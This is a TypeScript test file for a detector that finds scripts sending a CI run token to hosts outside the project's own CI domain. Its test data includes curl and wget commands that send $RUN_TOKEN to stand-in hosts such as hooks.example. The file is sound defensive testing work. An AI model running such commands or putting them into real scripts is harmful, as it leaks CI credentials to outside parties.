import { expect, it } from 'vitest';
import { sourceFile } from '../../source/index.ts';
import { sentTokensOf } from './sent-tokens.ts';

const OWN = { token: /\$\{?RUN_TOKEN\b\}?/, host: /(?:^|\.)ci\.example$/ };

it.each<[command: string, expected: [token: string, host: string][]]>([
  ['curl -H "Authorization: $RUN_TOKEN" https://hooks.example/a', [['$RUN_TOKEN', 'hooks.example']]],
  ['wget --post-data="t=${RUN_TOKEN}" http://user@a.example:8080', [['${RUN_TOKEN}', 'a.example']]],
  ['curl -u "x:$RUN_TOKEN" https://ci.example/packages', []],
  ['curl -u "x:$RUN_TOKEN" https://api.ci.example/packages', []],
  ['curl -d "$RUN_TOKEN" "$VAULT/v1"', []],
  ['curl -d "jwt=$RUN_TOKEN" https://v.example/v1/auth/jwt/login', []],
  ['curl -H "JOB-TOKEN: $RUN_TOKEN" https://git.example/api/v4/projects/1', []],
  ['curl -d "$RUN_TOKEN" https://sts.amazonaws.com', []],
  ['curl -d "$RUN_TOKEN" http://localhost:8080', []],
  ['echo "$RUN_TOKEN" https://hooks.example', []],
  ['curl https://hooks.example; echo $RUN_TOKEN', []],
])('%s', (text, expected) => {
  const file = sourceFile('script', text);
  const found = sentTokensOf({ text, dialect: 'posix', placeOf: (span) => ({ file, span }) }, OWN);
  expect(found.map(({ token, host }) => [token.value, host])).toEqual(expected);
});
